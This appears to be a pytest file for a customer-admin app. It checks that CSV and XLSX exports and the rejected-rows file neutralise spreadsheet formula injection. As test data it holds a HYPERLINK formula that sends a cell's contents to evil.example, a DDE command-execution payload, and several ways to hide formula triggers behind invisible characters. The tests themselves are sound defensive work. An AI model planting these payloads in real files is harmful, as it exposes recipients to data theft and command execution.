"""No formula injection: every export and the rejected-rows file write formulas as inert text.

A value a spreadsheet would run as a formula (= + - @ tab CR, and the full-width ＝＋－＠) gets
one leading quote in every CSV and XLSX we write; XLSX cells are string cells. Uploading our own
export gives back the values we exported (services.spreadsheet_cells).
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from models import Contact, Customer, Request
from models.enums import CustomerKind
from services.bulk_import import OnMatch, run_import
from services.bulk_import_files import read_table, rejected_csv, suggest_mapping
from services.customers import SaveOptions
from services.requests import save_request
from services.spreadsheet_cells import neutralise_cell, restore_cell, xlsx_bytes
from services.transactions import unit_of_work

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("value, written", [
    (LINK, "'" + LINK),
    ("+421 905 123 456", "'+421 905 123 456"),  # phones too: the rule has no exceptions
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
    ("'=1+1", "''=1+1"),  # already quoted: one more, so the way back is exact
    ("Acme s.r.o.", "Acme s.r.o."),
    ("it's = fine", "it's = fine"),
    ("", ""),
])
def test_neutralise_prefixes_formula_starts_and_restore_takes_it_back(value, written):
    assert neutralise_cell(value) == written
    assert restore_cell(written) == value


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " ", "\uff20"]),
               max_size=6))
def test_restore_is_the_exact_inverse_of_neutralise(value):
    written = neutralise_cell(value)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r", "\uff20"))
    assert restore_cell(written) == value


# What a spreadsheet skips before it looks for a formula: spaces of every kind, line breaks,
# control characters, invisible format characters — and the small forms of the triggers.
HIDDEN_STARTS = [" =1+1", '  =HYPERLINK("http://evil.example")', "\u00a0=1+1", "\u3000=1+1", "\n=1+1",
                 "\x00=1+1", "\u200b=1+1", "\ufeff=1+1", "\x0b=1", "\x0c=1", "\u2028=1", "\x01=1+1",
                 "\u202e=1", "\ufe66 1+1", "\ufe62 1", "\ufe63 1", "\ufe6b x", " \u00a0\ufeff@SUM(1)",
                 " \tabc", "' =1", "\u200b'=1"]


@pytest.mark.parametrize("value", HIDDEN_STARTS)
def test_a_formula_behind_invisible_characters_is_neutralised(value):
    written = neutralise_cell(value)
    assert written == "'" + value
    assert restore_cell(written) == value


@pytest.mark.parametrize("value", ["a =1", " plain", "\u200b", "\u00a0", "x\t=1", "%0A=1", "|cmd", "'quoted"])
def test_text_that_only_contains_a_trigger_later_stays_as_it_is(value):
    assert neutralise_cell(value) == value and restore_cell(value) == value


HIDDEN = [" ", "\u00a0", "\u3000", "\n", "\x00", "\u200b", "\ufeff", "\x0b", "\x0c", "\u2028", "\x01"]
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62",
            "\ufe63", "\ufe6b"]


@given(st.text(alphabet=st.sampled_from([*HIDDEN, *TRIGGERS, "'", "a", "1"]), max_size=6))
def test_restore_is_exact_and_nothing_hidden_starts_a_formula(value):
    written = neutralise_cell(value)
    assert restore_cell(written) == value
    visible = value.lstrip("".join(HIDDEN) + "'")
    if visible.startswith(tuple(TRIGGERS)) or any(c in "\t\r" for c in value[:len(value) - len(visible)]):
        assert written.startswith("'")


def test_a_workbook_strips_control_characters_before_neutralising():
    """"\x01=1+1" (XML cannot hold \x01) must not become the formula text "=1+1"."""
    data = xlsx_bytes("Customers", ["Name"], [["\x01=1+1"], ["\x00 =SUM(1)"], ["\x02\x03", "x"]])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    # The last row's first cell held control characters only: it is left empty.
    assert [row[0].value for row in sheet.iter_rows()] == ["Name", "'=1+1", "' =SUM(1)", None]


def test_a_workbook_holds_only_text_cells():
    data = xlsx_bytes("Customers", ["Name", "=Header"], [[LINK, 12], ["\x01bell", None]])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert [cell.value for cell in cells] == ["Name", "'=Header", "'" + LINK, "12", "bell", None]


@pytest.fixture
def hostile(session, maintainer, new_customer):
    company = new_customer(kind=CustomerKind.COMPANY, company_name=LINK, registration_number="12345678",
                           primary_phone="+421 905 123 456", contacts=[
                               {"first_name": "@SUM(1+1)", "last_name": DDE, "email": "dde@example.sk",
                                "phone": "+421 905 999 888", "is_main": True}])
    with unit_of_work(session):
        save_request(session, Request(customer=company, subject="-2+3+cmd|' /C calc'!A0"), maintainer)
    return company


EXPORTS = {
    "/admin/customers/export/": ("Name", LINK),
    "/admin/contacts/export/": ("Name", f"@SUM(1+1) {DDE}"),
    "/admin/requests/export/": ("Subject", "-2+3+cmd|' /C calc'!A0"),
}


@pytest.mark.parametrize("url", EXPORTS)
def test_csv_exports_neutralise_formulas(maintainer_client, hostile, url):
    column, value = EXPORTS[url]
    text = maintainer_client.get(url + "csv/").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record[column] == "'" + value


@pytest.mark.parametrize("url", EXPORTS)
def test_xlsx_exports_write_text_cells_never_formulas(maintainer_client, hostile, url):
    column, value = EXPORTS[url]
    response = maintainer_client.get(url + "xlsx/")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows())
    assert {cell.data_type for row in rows for cell in row if cell.value is not None} == {"s"}
    record = dict(zip([c.value for c in rows[0]], [c.value for c in rows[1]], strict=True))
    assert record[column] == "'" + value


def test_customer_export_shows_phones_quoted(maintainer_client, hostile):
    rows = list(csv.DictReader(io.StringIO(maintainer_client.get("/admin/customers/export/csv/")
                                           .get_data(as_text=True))))
    assert rows[0]["Primary phone"] == "'+421 905 123 456"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_our_own_export_uploaded_again_gives_back_the_same_values(session, maintainer, maintainer_client,
                                                                  hostile, kind):
    data = maintainer_client.get(f"/admin/customers/export/{kind}/").data
    table = read_table(data)
    row = table.rows[0].values
    assert row["Name"] == LINK and row["Company name"] == LINK
    assert row["Primary phone"] == "+421 905 123 456"
    mapping = {"Company name": "company_name", "Company ID (IČO)": "registration_number",
               "Primary phone": "primary_phone"}
    report = run_import(session, maintainer, table.rows, mapping, ["registration_number"],
                        OnMatch.UPDATE_ALL, SaveOptions("SK"), dry_run=False)
    assert report.counts()["unchanged"] == 1, report.as_dict()
    session.expire_all()
    assert session.get(Customer, hostile.id).company_name == LINK


def test_rejected_rows_file_neutralises_a_formula_behind_a_space(session, maintainer):
    hidden = "\u200b" + DDE  # kept by the reader (it strips spaces)
    table = read_table(f"Firma;IČO;E-mail\n{hidden};1;zle\n".encode())
    report = run_import(session, maintainer, table.rows, suggest_mapping(table.headers), [], OnMatch.SKIP,
                        SaveOptions("SK"), dry_run=True)
    data = rejected_csv(table.headers, [r.__dict__ for r in report.rejected])
    assert data.decode("utf-8-sig").splitlines()[1].startswith("'\u200b=cmd|")
    assert read_table(data).rows[0].values["Firma"] == hidden


def test_rejected_rows_file_neutralises_and_comes_back_as_it_was(session, maintainer):
    table = read_table(f"Firma;IČO;E-mail\n{DDE};1;zle\n".encode())
    report = run_import(session, maintainer, table.rows, suggest_mapping(table.headers), [], OnMatch.SKIP,
                        SaveOptions("SK"), dry_run=True)
    assert len(report.rejected) == 1
    data = rejected_csv(table.headers, [r.__dict__ for r in report.rejected])
    line = data.decode("utf-8-sig").splitlines()[1]
    assert line.startswith("'=cmd|")
    again = read_table(data)
    assert again.rows[0].values["Firma"] == DDE
    assert session.query(Contact).count() == 0
